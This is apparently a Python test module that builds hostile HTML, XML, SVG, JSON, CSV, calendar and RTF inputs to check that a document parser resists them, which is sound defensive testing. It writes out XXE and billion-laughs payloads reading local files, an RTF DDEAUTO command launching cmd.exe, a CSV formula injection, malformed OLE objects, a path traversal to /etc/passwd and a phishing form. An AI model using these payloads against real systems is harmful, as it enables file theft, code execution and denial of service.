"""Texts that run deep, wide or long: HTML, XML, SVG, JSON, CSV, calendars, RTF."""

from __future__ import annotations

from tests.hostile.case import Cases, answered, held

_SEEN = "The child was seen"
_P = b"<p>The child was seen</p>"


def _entities(path: str, root: str) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "ha">{levels}<!ENTITY o SYSTEM "file://{path}">]><{root}>&l9;&o;</{root}>'.encode()


def _parameter(path: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY % a SYSTEM "file://{path}"><!ENTITY % b "<!ENTITY c \'%a;\'>">%b;]><f>&c;</f>'.encode()
    )


def _include(path: str) -> bytes:
    return (
        f'<?xml version="1.0"?><f xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{path}" parse="text"/></f>'.encode()
    )


def _styled(path: str) -> bytes:
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="file://{path}"?><f><a>The child was seen</a></f>'.encode()


def _quadratic() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY a "' + b"a" * 100_000 + b'">]><f>' + b"&a;" * 50_000 + b"</f>"


def _xml(inside: bytes) -> bytes:
    return b'<?xml version="1.0"?><form>' + inside + b"</form>"


def _svg(inside: bytes, before: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>'
        + before
        + b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        + inside
        + b"</svg>"
    )


def _html(inside: bytes) -> bytes:
    return b"<!doctype html><html><body>" + inside + b"</body></html>"


def _formatting(count: int) -> bytes:
    """Misnested tags: browsers rebuild the open ones in every block."""
    return _html(_P + b"".join(b"<b id=%d><i><a href=x><p>" % n for n in range(count)))


def _calendar(inside: bytes) -> bytes:
    return b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n" + inside + b"END:VCALENDAR\r\n"


def _event(inside: bytes) -> bytes:
    return b"BEGIN:VEVENT\r\nSUMMARY:The child was seen\r\nDTSTART:20261201T100000Z\r\n" + inside + b"END:VEVENT\r\n"


def _rtf(inside: bytes) -> bytes:
    return b"{\\rtf1\\ansi The child was seen\\par " + inside + b"}"


def _object() -> bytes:
    """An embedded package whose native data says it is longer than it is."""
    return _rtf(
        b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b61676500"
        + b"0" * 16
        + b"f0ffff7f"
        + b"41" * 90
        + b"}}"
    )


def _equation() -> bytes:
    return _rtf(
        b"{\\object\\objocx\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300"
        + b"ff" * 400
        + b"}}"
    )


def _rtf_command() -> bytes:
    return _rtf(b'{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"}{\\fldrslt x}}')


def _csv_rows(count: int) -> bytes:
    return b"name,born\n" + b"Ada,2015\n" * count


_CASES: Cases = {
    "remote-xxe.xml": held(lambda: b'<?xml version="1.0"?><!DOCTYPE f SYSTEM "http://tracker.example/x.dtd"><f>x</f>'),
    "quadratic.xml": held(_quadratic),
    "deep.xml": held(lambda: _xml(b"<a>" * 500_000)),
    "deep-closed.xml": answered(lambda: _xml(b"<a>" * 250 + b"x" + b"</a>" * 250)),
    "wide.xml": answered(lambda: _xml(b"<a>x</a>" * 400_000)),
    "attributes.xml": answered(lambda: _xml(b"<a " + b" ".join(b'a%d="x"' % n for n in range(200_000)) + b"/>")),
    "attribute.xml": held(lambda: _xml(b'<a b="' + b"x" * 30_000_000 + b'"/>')),
    "spaces.xml": answered(lambda: _xml(b"".join(b'<a xmlns:n%d="urn:%d">' % (n, n) for n in range(200)) + b"</a>" * 200)),
    "section.xml": answered(lambda: _xml(b"<![CDATA[" + b"x" * 3_000_000 + b"]]>")),
    "comment.xml": answered(lambda: _xml(b"<!--" + b"x" * 9_000_000 + b"-->")),
    "ebcdic.xml": answered(lambda: '<?xml version="1.0" encoding="cp037"?><f>x</f>'.encode("cp037")),
    "script.svg": held(lambda: _svg(b"<script>alert(1)</script><image xlink:href='http://tracker.example/p.png'/>")),
    "use.svg": held(lambda: _svg(b"".join(b'<g id="g%d">%s</g>' % (n, b'<use xlink:href="#g%d"/>' % (n - 1) * 10) for n in range(1, 12)))),
    "vast.svg": held(lambda: _svg(b'<rect width="1e30" height="1e30"/>')),
    "deep.html": held(lambda: _html(_P + b"<div>" * 400_000)),
    "tables.html": held(lambda: _html(_P + b"<table><tr><td>" * 20_000)),
    "spans.html": answered(lambda: _html(_P + b"<table><tr>" + b"<td rowspan=65534 colspan=1000>x</td>" * 2_000 + b"</tr></table>")),
    "cells.html": held(lambda: _html(_P + b"<table>" + b"<tr><td>x</td><td>y</td></tr>" * 200_000 + b"</table>")),
    "formatting.html": answered(lambda: _formatting(3_000)),
    "attribute.html": answered(lambda: _html(_P + b'<a href="' + b"x" * 9_000_000 + b'">x</a>')),
    "attributes.html": answered(lambda: _html(_P + b"<a " + b" ".join(b"a%d=x" % n for n in range(100_000)) + b">x</a>")),
    "entities.html": answered(lambda: _html(_P + b"&amp" * 1_000_000), _SEEN),
    "styles.html": answered(lambda: _html(b"<style>" + b"p{color:red}" * 100_000 + b"</style>" + _P), _SEEN),
    "selectors.html": answered(lambda: _html(b"<style>" + b"p " * 20_000 + b"{display:none}</style>" + _P), _SEEN),
    "comments.html": answered(lambda: _html(_P + b"<!--" * 300_000)),
    "unclosed.html": answered(lambda: _html(_P + b"<" * 1_000_000)),
    "frames.html": answered(lambda: _html(_P + b"<iframe srcdoc='<iframe srcdoc=x>'>" * 9_000)),
    "noscript.html": answered(lambda: _html(_P + b"<noscript><p>written unseen</noscript>"), "written unseen"),
    "hidden.html": answered(lambda: _html(b'<p style="font-size:0">written unseen</p>' + _P), "written unseen"),
    "remote.html": answered(
        lambda: _html(_P + b'<img src="http://tracker.example/p.gif"><meta http-equiv=refresh content="0;url=http://tracker.example/">'),
        _SEEN,
    ),
    "form.html": answered(lambda: _html(_P + b'<form action="http://phish.example/"><input type=password></form>'), _SEEN),
    "template.html": answered(lambda: _html(_P + b"<template>" * 3_000)),
    "select.html": answered(lambda: _html(_P + b"<select>" + b"<option>x" * 300_000 + b"</select>")),
    "deep.json": answered(lambda: b'{"a":' * 500_000 + b"1" + b"}" * 500_000),
    "deep-list.json": answered(lambda: b"[" * 900 + b"1" + b"]" * 900),
    "wide.json": answered(lambda: b"[" + b",".join(b'{"a":"b"}' for _ in range(300_000)) + b"]"),
    "number.json": answered(lambda: b'{"a":' + b"9" * 2_000_000 + b"}"),
    "exponent.json": answered(lambda: b'{"a":1e999999999,"b":-1e-999999999,"c":NaN,"d":Infinity}'),
    "keys.json": answered(lambda: b"{" + b",".join(b'"k%d":"The child was seen"' % n for n in range(200_000)) + b"}", _SEEN),
    "same-keys.json": answered(lambda: b'{"a":"The child was safe","a":"The child was seen"}', _SEEN),
    "surrogates.json": answered(lambda: b'{"a":"\\ud800","b":"The child was seen"}', _SEEN),
    "payload.json": held(lambda: b'{"attachments":[{"filename":"a.zip","content_base64":"' + b"QUJD" * 20_000_000 + b'"}]}'),
    "columns.csv": held(lambda: b",".join([b"x"] * 2_000_000) + b"\n"),
    "rows.csv": held(lambda: _csv_rows(2_000_000)),
    "quote.csv": answered(lambda: b'name\n"' + b"x" * 3_000_000),
    "field.csv": answered(lambda: b"name\n" + b"x" * 3_000_000 + b"\n"),
    "formulas.csv": answered(lambda: b"name\n=cmd|'/C calc'!A0\n@SUM(1)\n"),
    "quotes.csv": answered(lambda: b"name,born\n" + b'"' * 1_000_000),
    "events.ics": answered(lambda: _calendar(_event(b"") * 30_000), _SEEN),
    "deep.ics": answered(lambda: _calendar(b"BEGIN:VEVENT\r\n" * 100_000)),
    "repeats.ics": answered(lambda: _calendar(_event(b"RRULE:FREQ=SECONDLY;COUNT=2147483647;INTERVAL=0\r\n")), _SEEN),
    "alarms.ics": answered(lambda: _calendar(_event(b"BEGIN:VALARM\r\nTRIGGER:-PT99999999999999999999H\r\nEND:VALARM\r\n" * 5_000)), _SEEN),
    "attendees.ics": answered(lambda: _calendar(_event(b"ATTENDEE;CN=Ada:mailto:a@b.example\r\n" * 50_000)), _SEEN),
    "parameters.ics": answered(lambda: _calendar(_event(b"ATTENDEE" + b";X=y" * 100_000 + b":mailto:a@b.example\r\n")), _SEEN),
    "attached.ics": answered(lambda: _calendar(_event(b"ATTACH;ENCODING=BASE64;VALUE=BINARY:" + b"QUJD" * 500_000 + b"\r\n")), _SEEN),
    "zones.ics": answered(
        lambda: _calendar(
            (b"BEGIN:VTIMEZONE\r\nTZID:x\r\nEND:VTIMEZONE\r\n") * 30_000 + _event(b"DTEND;TZID=../../etc/passwd:20261201T100000\r\n")
        ),
        _SEEN,
    ),
    "groups.rtf": held(lambda: _rtf(b"{" * 2_000_000)),
    "groups-closed.rtf": answered(lambda: _rtf(b"{}" * 500_000), _SEEN),
    "binary.rtf": answered(lambda: _rtf(b"\\bin99999999999999999999 x"), _SEEN),
    "binary-negative.rtf": answered(lambda: _rtf(b"\\bin-5 x"), _SEEN),
    "numbers.rtf": answered(lambda: _rtf(b"\\u99999999999999999999? \\cf" + b"9" * 100_000), _SEEN),
    "unicode-skip.rtf": answered(lambda: _rtf(b"\\uc2147483647\\u65 x"), _SEEN),
    "fonts.rtf": answered(
        lambda: b"{\\rtf1{\\fonttbl" + b"".join(b"{\\f%d\\fnil x;}" % n for n in range(100_000)) + b"}The child was seen}", _SEEN
    ),
    "tables.rtf": answered(lambda: _rtf(b"\\trowd" + b"\\cellx100" * 100_000 + b"x\\cell" * 100_000 + b"\\row")),
    "nested-tables.rtf": answered(lambda: _rtf(b"\\itap2147483647\\intbl x\\nestcell{\\*\\nesttableprops\\nestrow}" * 3_000)),
    "picture.rtf": answered(lambda: _rtf(b"{\\pict\\pngblip\\picw99999999\\pich99999999 " + b"89504e47" * 200_000 + b"}"), _SEEN),
    "object.rtf": held(_object, _SEEN),
    "equation.rtf": held(_equation, _SEEN),
    "command.rtf": held(_rtf_command, _SEEN),
    "template.rtf": held(lambda: _rtf(b"{\\*\\template http://tracker.example/t.dotm}"), _SEEN),
    "hidden.rtf": answered(lambda: _rtf(b"{\\v written unseen}"), "written unseen"),
    "hex.rtf": answered(lambda: _rtf(b"\\'" * 500_000), _SEEN),
    "words.txt": answered(lambda: b"The child was seen. " * 200_000, _SEEN),
    "marks.txt": answered(lambda: b"a" + "\u0301".encode() * 500_000),
    "turned.txt": answered(lambda: "\u202e".encode() * 200_000 + b"The child was seen", _SEEN),
    "stars.txt": answered(lambda: b"*" * 500_000 + b"_" * 500_000),
    "colons.txt": answered(lambda: b"Name:" * 300_000),
    "minutes.txt": answered(lambda: b"Minutes of the strategy meeting\nPresent: A\n" + b"1. Child: Ada\nAction: x by y\n" * 60_000),
    "dates.txt": answered(lambda: b"1/2/2015 " * 200_000),
    "long-words.txt": answered(lambda: b"a" * 4_000_000),
    "nulls.txt": answered(lambda: b"\0" * 3_000_000),
    "marked.txt": answered(lambda: b"\xef\xbb\xbf" * 500_000),
    "half-utf16.txt": answered(lambda: b"\xff\xfe" + b"\0\xd8" * 300_000 + b"a"),
    "escapes.txt": answered(lambda: b"\x1b[2J" * 300_000),
}


def cases(path: str) -> Cases:
    """`path` is a file of this machine that some of them try to pull in."""
    fetching = {
        "laughs-xxe.xml": held(lambda: _entities(path, "form")),
        "laughs-xxe.svg": held(lambda: _entities(path, "svg")),
        "laughs-xxe.html": answered(lambda: _entities(path, "html")),
        "parameter-xxe.xml": held(lambda: _parameter(path)),
        "include-xxe.xml": answered(lambda: _include(path)),
        "styled-xxe.xml": answered(lambda: _styled(path), _SEEN),
        "utf16-xxe.xml": answered(lambda: _entities(path, "form").decode().encode("utf-16")),
    }
    return fetching | dict(_CASES)
